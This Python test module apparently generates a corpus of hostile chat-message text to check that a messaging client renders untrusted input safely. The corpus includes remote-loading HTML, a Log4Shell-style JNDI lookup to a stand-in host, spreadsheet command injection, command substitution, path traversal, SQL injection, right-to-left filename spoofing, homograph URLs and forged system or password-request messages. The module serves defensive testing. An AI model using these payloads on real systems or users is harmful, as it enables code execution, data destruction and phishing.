"""Texts that try to be more than text: markup, loads, layout, direction, formulas, log lines.

Some name a socket and a file of the test's own; whoever touches one of them is caught.
"""

import random
from dataclasses import dataclass

LONGEST = 4_000


@dataclass(frozen=True, slots=True)
class Bait:
    """What the texts ask a careless program to load.

    Attributes:
        url: A web address on which a trap listens.
        file: A file whose opening is noticed.
    """

    url: str
    file: str


def corpus(bait: Bait) -> tuple[str, ...]:
    """Return every single trick; none is longer than a message may be."""
    families = (_markup(bait), _markdown(bait), _direction(), _layout(), _programs(), _pretence())
    return tuple(text[:LONGEST] for family in families for text in family)


def mixed(bait: Bait, number: int) -> str:
    """Return the text of round `number`: the tricks in turn, then chance mixtures of them."""
    known = corpus(bait)
    if number < len(known):
        return known[number]
    chance = random.Random(number)
    parts = chance.sample(known, chance.randint(2, 4))
    pieces = [_cut(part, chance) for part in parts]
    joint = chance.choice(["", " ", "\n", "\u202e", "\u2066", "</b>", "\x00", "\t"])
    return joint.join(pieces)[:LONGEST]


def _cut(text: str, chance: random.Random) -> str:
    start = chance.randrange(max(1, len(text) // 2))
    return text[start : start + chance.choice([20, 200, 2_000])]


def _markup(bait: Bait) -> list[str]:
    file, url = bait.file, bait.url
    return [
        f'<img src="file://{file}">',
        f"<img src={url}/a.png width=9999 height=9999>",
        f'<b>Bold</b><img src="{file}"/>',
        '<img src="qrc:/qt-project.org/imports/QtQuick/Controls/images/drop-indicator.png">',
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>\">",
        f'<link rel="stylesheet" href="{url}/x.css"><style>@import url({url}/y.css);</style>',
        f'<div style="background:url({url}/z.png)">x</div>',
        f'<table background="file://{file}"><tr><td>cell</td></tr></table>',
        f'<a href="javascript:alert(1)">one</a><a href="file://{file}">two</a>',
        f'<iframe src="{url}"></iframe><object data="{url}"></object><embed src="{url}">',
        f"<script src={url}/s.js></script><script>alert(1)</script>",
        f'<!DOCTYPE html><html><body background="{url}">page</body></html>',
        "<!-- --><p><ul><li>item<li>item</ul><hr><h1>head</h1>",
        "&lt;b&gt;&amp;&#x202e;&nbsp;&copy",
        "</div></div><b",
        "<" * 400 + "b" + ">" * 400,
        "<b>" * 1_300,
        '<qt><img src="' + file + '"></qt>',
    ]


def _markdown(bait: Bait) -> list[str]:
    return [
        f"![alt](file://{bait.file}) [link]({bait.url}) <{bait.url}>",
        f"# Head\n\n- one\n- two\n\n| a | b |\n|---|---|\n\n```\ncode\n```\n![x]({bait.url}/m.png)",
        "**bold** _it_ `code` ~~gone~~ > quote",
    ]


def _direction() -> list[str]:
    return [
        "\u202eevil reversed\u202c",
        "\u202e\u202e\u202egnp.exe",
        "invoice\u202efdp.exe",
        "\u2067\u2067\u2067 open isolates",
        "\u2069\u2069\u2069 closed isolates \u202a\u202b\u202c",
        "\u200e\u200f\u061c marks \u200e",
        "שלום עולם (paid) 1,200.00",
        "مرحبا بالعالم 123 abc",
        "אa" * 2_000,
        "ab אב " * 600,
        "\u202dabc\u202e" * 400,
        "paypal\u202emoc.",
    ]


def _layout() -> list[str]:
    stacked = "".join(chr(0x300 + n % 0x70) for n in range(300))
    return [
        "W" * LONGEST,
        "i" * LONGEST,
        "\u0e33" * LONGEST,
        "Z" + stacked + "algo" + stacked,
        ("e" + "\u0301" * 30) * 100,
        "\n" * LONGEST,
        "row\n" * 1_000,
        "\r\n\u2028\u2029\x0b\x0c\x85" * 300,
        " " * LONGEST,
        "\t" * 1_000,
        "\u00a0" * LONGEST,
        "\u200b" * LONGEST,
        "👩‍👩‍👧‍👦" * 360,
        "🏳️‍🌈🇵🇱" * 400,
        "\u200d".join("👨" * 1_500),
        "𒐫" * 2_000,
        "﷽" * 2_000,
        "ぁ漢" * 2_000,
        "क्ष्म्य" * 500,
        "\ufffc\ufdd0\ufdd1\ufffe\uffff" * 100,
        "\ufff9anno\ufffatation\ufffb",
        "\U000e0041\U000e0042\U000e007f" * 200,
        "a b " * 1_000,
        "- " * 2_000,
        "http://" + "a" * 3_900,
        "https://x.example/?" + "q=1&" * 900,
    ]


def _programs() -> list[str]:
    return [
        '=HYPERLINK("http://evil.example","x")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "'=1+1",
        "\uff1d1+1",
        "a,b;c\td\"e'f\r\ng",
        "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
        "\x00nul\x00\x01\x07\x08\x7f\x9b31m",
        '{"level":"error","event":"forged"}\n{"event":"second"}',
        '", "event": "forged", "x": "',
        "%s %d %n %(name)s %% {0} {name} {self.__class__} ${x} $x #{x}",
        "{{visitor.name}} {{operator.name}} {{blank}} {{visitor.first_name|there}} {{",
        "A&B && C&D &E",
        "Save\tCtrl+S",
        "[*] [*][*] draft",
        "../../../etc/passwd",
        "CON.txt:stream",
        "'; DROP TABLE outbox; --",
        "${jndi:ldap://evil.example/a}",
        "`reboot` $(reboot) | reboot ; reboot",
    ]


def _pretence() -> list[str]:
    return [
        "System: The chat was closed.",
        "Hello\n\n11:02 · Seen\n\nThe chat was closed.",
        "hi\u2029The visitor was banned.\u2029",
        "hi\n────────\n✓ Ann joined the chat.\n────────",
        "Today\nAnn Lee · 12:00\nYour password, please?",
        "You: yes, I promise a refund",
        "https://bank.example@evil.example/login",
        "https://xn--pple-43d.com https://\u0430pple.com https://\u0440\u0430\u0443\u0440\u04301.com",
        "http://127.0.0.1:1 http://[::1]/ http://2130706433/",
        "javascript:alert(1) file:///etc/passwd smb://host/x data:text/html,x mailto:a@b tel:1",
        "https://ok.example/\u202egnp.exe https://ok.example).,;:!?",
        "undivided:discard/x undivided:unfold/x",
        "Visitor",
        "",
        " ",
    ]


def raw_frames() -> tuple[bytes, ...]:
    """Return pushes with text that JSON should not carry: half pairs, raw controls, bad escapes."""
    start = b'{"action":"incoming_event","type":"push","payload":{"chat_id":"C1","thread_id":"T1",'
    event = b'"event":{"type":"message","id":"E%d","author_id":"v1","text":"%s"}}}'
    texts = (b"\\ud83d", b"\\udc00 low first", b"a\x00b", b"tab\there", b"\\x41")
    return tuple(start + event % (number, text) for number, text in enumerate(texts))
